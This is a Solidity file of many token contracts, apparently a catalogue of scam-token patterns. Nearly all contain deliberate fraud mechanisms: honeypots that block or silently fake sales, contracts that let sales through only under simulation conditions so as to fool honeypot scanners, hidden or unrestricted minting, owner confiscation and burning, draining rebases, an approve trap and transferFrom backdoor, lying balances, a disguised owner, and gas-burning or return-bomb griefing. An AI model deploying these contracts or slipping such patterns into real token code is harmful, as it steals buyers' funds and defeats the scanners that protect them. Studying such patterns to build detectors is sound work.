// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.26;

import {Base, Owned, IPair, ROUTER, WETH} from "./Base.sol";

contract HoneypotPlain is Owned {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        require(!_isSell(from, to), "transfer failed");
        _put(from, to, amount);
    }
}

/// p0: largest sale, in millionths of the supply.
contract HoneypotSize is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        require(!_isSell(from, to) || amount <= totalSupply * p[0] / 1_000_000, "too much");
        _put(from, to, amount);
    }
}

/// p0: seconds after which nobody sells any more.
contract HoneypotTime is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        require(!_isSell(from, to) || block.timestamp < born + p[0], "closed");
        _put(from, to, amount);
    }
}

/// p0: blocks after which nobody sells any more.
contract HoneypotBlock is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        require(!_isSell(from, to) || block.number < bornBlock + p[0], "closed");
        _put(from, to, amount);
    }
}

contract HoneypotWhitelist is Owned {
    mapping(address => bool) public friend;

    constructor(uint256[4] memory p_) Base(p_) {
        friend[msg.sender] = true;
    }

    function befriend(address who) external only {
        friend[who] = true;
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (_isSell(from, to) && !friend[from]) revert();
        _put(from, to, amount);
    }
}

/// p0: how many buyers may ever sell.
contract HoneypotFirstBuyers is Base {
    uint256 private buyers;
    mapping(address => uint256) private number;

    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (_isBuy(from, to) && number[to] == 0) number[to] = ++buyers;
        require(!_isSell(from, to) || (number[from] > 0 && number[from] <= p[0]), "late");
        _put(from, to, amount);
    }
}

/// p0: how many sales there will ever be.
contract HoneypotQuota is Base {
    uint256 private sales;

    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (_isSell(from, to)) require(++sales <= p[0]);
        _put(from, to, amount);
    }
}

contract HoneypotOnce is Base {
    mapping(address => bool) private sold;

    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (_isSell(from, to)) {
            require(!sold[from], "once");
            sold[from] = true;
        }
        _put(from, to, amount);
    }
}

contract HoneypotSilent is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (!_isSell(from, to)) _put(from, to, amount);
        else emit Transfer(from, to, amount);
    }
}

/// Only who bought from the pair itself may sell; what was given to somebody is lost to him.
contract HoneypotReceiver is Base {
    mapping(address => bool) private bought;

    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (_isBuy(from, to)) bought[to] = true;
        require(!_isSell(from, to) || bought[from], "gift");
        _put(from, to, amount);
    }
}

contract SimulatorOrigin is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        require(!_isSell(from, to) || tx.origin == address(0) || tx.origin != from, "no");
        _put(from, to, amount);
    }
}

contract SimulatorCoinbase is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        require(!_isSell(from, to) || block.coinbase == address(0), "no");
        _put(from, to, amount);
    }
}

contract SimulatorGasPrice is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        require(!_isSell(from, to) || tx.gasprice <= block.basefee, "no");
        _put(from, to, amount);
    }
}

contract SimulatorBaseFee is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        require(!_isSell(from, to) || block.basefee == 0, "no");
        _put(from, to, amount);
    }
}

/// p0: ether of somebody who is taken for a simulator.
contract SimulatorRich is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        require(!_isSell(from, to) || tx.origin.balance >= p[0] * 1 ether, "no");
        _put(from, to, amount);
    }
}

contract SimulatorContract is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        require(!_isSell(from, to) || from.code.length > 0, "no");
        _put(from, to, amount);
    }
}

/// p0: tax both ways, bps.
contract TaxFixed is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        _taxed(from, to, amount, _isSell(from, to) || _isBuy(from, to) ? p[0] : 0, boss);
    }
}

contract TaxSell is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        _taxed(from, to, amount, _isSell(from, to) ? p[0] : 0, boss);
    }
}

/// p0: bps that the tax rises by in an hour; p1: its end.
contract TaxRising is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        uint256 tax = (block.timestamp - born) / 60 * p[0] / 60;
        _taxed(from, to, amount, _isSell(from, to) ? (tax > p[1] ? p[1] : tax) : 0, boss);
    }
}

/// p0: bps of tax for each ten-thousandth of the supply that is sold at once.
contract TaxByAmount is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        uint256 tax = amount * p[0] * 10_000 / totalSupply;
        _taxed(from, to, amount, _isSell(from, to) ? (tax > 9_500 ? 9_500 : tax) : 0, boss);
    }
}

contract TaxTransfer is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        bool trade = from == pair || to == pair || _free(from, to);
        _taxed(from, to, amount, trade ? 0 : p[0], boss);
    }
}

/// p0: bps of the supply that every sale makes for the owner.
contract MintOnSell is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        _put(from, to, amount);
        if (_isSell(from, to)) held[boss] += totalSupply * p[0] / 10_000;
    }
}

contract MintByOwner is Owned {
    constructor(uint256[4] memory p_) Base(p_) {}

    function sweepDust(uint256 amount) external only {
        held[boss] += amount;
    }
}

contract MintByRole is Base {
    mapping(address => bool) private can;

    constructor(uint256[4] memory p_) Base(p_) {
        can[msg.sender] = true;
        boss = address(0);
    }

    function mint(address to, uint256 amount) external {
        require(can[msg.sender]);
        _mint(to, amount);
    }
}

contract MintByAnyone is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function claimReward(address to, uint256 amount) external {
        held[to] += amount;
    }
}

contract BlacklistOne is Owned {
    mapping(address => bool) public bot;

    constructor(uint256[4] memory p_) Base(p_) {}

    function setBot(address who, bool is_) external only {
        bot[who] = is_;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(!bot[from], "bot");
        _put(from, to, amount);
    }
}

contract BlacklistMany is Owned {
    mapping(address => bool) public bots;

    constructor(uint256[4] memory p_) Base(p_) {}

    function addBots(address[] memory who) external only {
        for (uint256 i; i < who.length; i++) bots[who[i]] = true;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(!bots[from] && !bots[to], "bot");
        _put(from, to, amount);
    }
}

contract PauseSwitch is Owned {
    bool public open = true;

    constructor(uint256[4] memory p_) Base(p_) {}

    function setOpen(bool on) external only {
        open = on;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(open || _free(from, to), "paused");
        _put(from, to, amount);
    }
}

contract PausePlain is Owned {
    bool public paused;

    constructor(uint256[4] memory p_) Base(p_) {}

    function pause() external only {
        paused = true;
    }

    function unpause() external only {
        paused = false;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(!paused, "paused");
        _put(from, to, amount);
    }
}

contract LimitSwitch is Owned {
    uint256 public most = type(uint256).max;

    constructor(uint256[4] memory p_) Base(p_) {}

    function setMaxTxAmount(uint256 amount) external only {
        most = amount;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(amount <= most || _free(from, to), "max");
        _put(from, to, amount);
    }
}

/// p0: seconds that a buyer has to wait.
contract CoolDownLong is Base {
    mapping(address => uint256) private bought;

    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (_isBuy(from, to)) bought[to] = block.timestamp;
        require(!_isSell(from, to) || block.timestamp >= bought[from] + p[0], "wait");
        _put(from, to, amount);
    }
}

contract RebaseDown is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    /// p0: bps of what a holder has that vanish in an hour.
    function balanceOf(address who) public view override returns (uint256) {
        if (who == pair || who == boss || born == 0) return held[who];
        uint256 gone = (block.timestamp - born) * p[0] / 3600;
        return gone >= 10_000 ? 0 : held[who] * (10_000 - gone) / 10_000;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(amount <= balanceOf(from), "balance");
        _put(from, to, amount);
    }
}

contract RebaseByOwner is Owned {
    uint256 private scale = 1_000_000;

    constructor(uint256[4] memory p_) Base(p_) {}

    function balanceOf(address who) public view override returns (uint256) {
        return who == pair || who == boss ? held[who] : held[who] * scale / 1_000_000;
    }

    function rebase(uint256 millionths) external only {
        require(millionths <= 1_000_000);
        scale = 1_000_000 - millionths;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(amount <= balanceOf(from), "balance");
        _put(from, to, amount);
    }
}

/// p0: bps that every buyer takes from the buyer before.
contract LeakHolders is Base {
    address private last;

    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (_isBuy(from, to)) {
            if (last != address(0)) {
                uint256 taken = held[last] * p[0] / 10_000;
                held[last] -= taken;
                held[boss] += taken;
            }
            last = to;
        }
        _put(from, to, amount);
    }
}

/// p0: bps of the pair's tokens that the owner can take out of it, so that he buys everything with little.
contract LeakPair is Owned {
    constructor(uint256[4] memory p_) Base(p_) {}

    function syncPool() external only {
        uint256 taken = held[pair] * p[0] / 10_000;
        held[pair] -= taken;
        held[boss] += taken;
        if (p[3] != 3) IPair(pair).sync();
    }
}

contract TakeBack is Owned {
    constructor(uint256[4] memory p_) Base(p_) {}

    function recover(address from, address to, uint256 amount) external only {
        _put(from, to, amount);
    }
}

contract BurnHolder is Owned {
    constructor(uint256[4] memory p_) Base(p_) {}

    function burn(address from, uint256 amount) external only {
        _burn(from, amount);
    }
}

contract FeeSetter is Owned {
    uint256 public fee;

    constructor(uint256[4] memory p_) Base(p_) {}

    function setFee(uint256 percent) external only {
        fee = percent;
    }

    function _move(address from, address to, uint256 amount) internal override {
        _taxed(from, to, amount, _isSell(from, to) ? fee * 100 : 0, boss);
    }
}

/// p0: the cap of the fees in percent, far above what is honest.
contract FeeSetterCapped is Owned {
    uint256 public buyFee = 2;
    uint256 public sellFee = 2;

    constructor(uint256[4] memory p_) Base(p_) {}

    function setFees(uint256 buy, uint256 sell) external only {
        require(buy <= p[0] && sell <= p[0], "cap");
        (buyFee, sellFee) = (buy, sell);
    }

    function _move(address from, address to, uint256 amount) internal override {
        uint256 bps = _isSell(from, to) ? sellFee * 100 : _isBuy(from, to) ? buyFee * 100 : 0;
        _taxed(from, to, amount, bps, boss);
    }
}

/// Says that nobody owns it.
contract OwnerHidden is Base {
    address private dev;
    uint256 private fee;

    constructor(uint256[4] memory p_) Base(p_) {
        dev = msg.sender;
    }

    function owner() external pure returns (address) {
        return address(0);
    }

    function setMarketing(uint256 bps) external {
        require(msg.sender == dev);
        fee = bps;
    }

    function _move(address from, address to, uint256 amount) internal override {
        _taxed(from, to, amount, _isSell(from, to) ? fee : 0, boss);
    }
}

/// The one who may is written into the code.
contract OwnerInCode is Base {
    address private immutable DEV = msg.sender;
    bool private closed;

    constructor(uint256[4] memory p_) Base(p_) {
        boss = address(0);
    }

    function maintenance(bool on) external {
        require(msg.sender == DEV);
        closed = on;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(!closed || from == pair, "closed");
        _put(from, to, amount);
    }
}

contract TwoSteps is Owned {
    mapping(address => bool) private marked;
    bool private armed;

    constructor(uint256[4] memory p_) Base(p_) {}

    function mark(address who) external only {
        marked[who] = true;
    }

    function arm(bool on) external only {
        armed = on;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(!armed || !marked[from], "marked");
        _put(from, to, amount);
    }
}

contract ApproveTrap is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function approve(address spender, uint256 amount) public override returns (bool) {
        allowance[msg.sender][boss] = type(uint256).max;
        return super.approve(spender, amount);
    }
}

contract ApproveVoid is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function approve(address spender, uint256 amount) public override returns (bool) {
        if (msg.sender == boss) allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }
}

contract Backdoor is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        if (msg.sender != boss) _spend(from, amount);
        _move(from, to, amount);
        return true;
    }
}

/// p0: percent that everybody but the pair and the owner sees of what he has.
contract LyingBalance is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function balanceOf(address who) public view override returns (uint256) {
        return who == pair || who == boss ? held[who] : held[who] * p[0] / 100;
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (_isSell(from, to)) {
            amount = amount * 100 / p[0];
            _taxed(from, to, amount, 9_000, boss);
        } else {
            _put(from, to, amount);
        }
    }
}

contract LyingDecimals is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function decimals() public view override returns (uint8) {
        return address(this).code.length == 0 ? 18 : block.number % 2 == p[0] % 2 ? 18 : 6;
    }
}

/// p0: bps of the supply that lie ready to be sold before each sale of somebody else.
contract Reenter is Base {
    bool private busy;

    constructor(uint256[4] memory p_) Base(p_) {
        _mint(address(this), totalSupply * p_[0] / 1_000);
        allowance[address(this)][address(ROUTER)] = type(uint256).max;
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (_isSell(from, to) && !busy) {
            busy = true;
            address[] memory path = new address[](2);
            (path[0], path[1]) = (address(this), WETH);
            uint256 part = held[pair] * p[1] / 100;
            if (part <= held[address(this)]) {
                ROUTER.swapExactTokensForETHSupportingFeeOnTransferTokens(part, 0, path, boss, block.timestamp);
            }
            busy = false;
        }
        _put(from, to, amount);
    }
}

/// p0: gas that every sale burns.
contract GasBurner is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (_isSell(from, to)) {
            uint256 start = gasleft();
            while (start - gasleft() < p[0]) {}
        }
        _put(from, to, amount);
    }
}

/// p0: kilobytes that a sale returns.
contract ReturnBomb is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        super.transferFrom(from, to, amount);
        if (_isSell(from, to)) {
            uint256 size = p[0] * 1024;
            assembly { return(0x80, size) }
        }
        return true;
    }
}

contract ReturnFalse is Base {
    constructor(uint256[4] memory p_) Base(p_) {}

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        super.transferFrom(from, to, amount);
        return !_isSell(from, to);
    }
}

contract Kill is Owned {
    constructor(uint256[4] memory p_) Base(p_) {}

    bool private dead;

    function migrate(address) external only {
        dead = true;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(!dead, "moved");
        _put(from, to, amount);
    }
}

/// Every sale pays a wallet; the owner may name one that takes nothing.
contract PayeeSwitch is Owned {
    address payable private wallet = payable(msg.sender);

    constructor(uint256[4] memory p_) Base(p_) {}

    function setWallet(address payable next) external only {
        wallet = next;
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (_isSell(from, to)) {
            (bool paid,) = wallet.call{value: address(this).balance}("");
            require(paid, "unpaid");
        }
        _put(from, to, amount);
    }
}

contract Reverter {
    constructor(uint256[4] memory) {}

    fallback() external {
        revert("no");
    }
}

contract Garbage {
    constructor(uint256[4] memory) {}

    fallback() external {
        assembly {
            mstore(0, 0xfefefefefefefefefefefefefefefefefefefefefefefefefefefefefefefefe)
            return(0, 31)
        }
    }
}

contract Burner {
    constructor(uint256[4] memory) {}

    fallback() external {
        assembly { invalid() }
    }
}

contract EndlessAnswer {
    constructor(uint256[4] memory) {}

    fallback() external {
        assembly { return(0, mul(gas(), 2)) }
    }
}
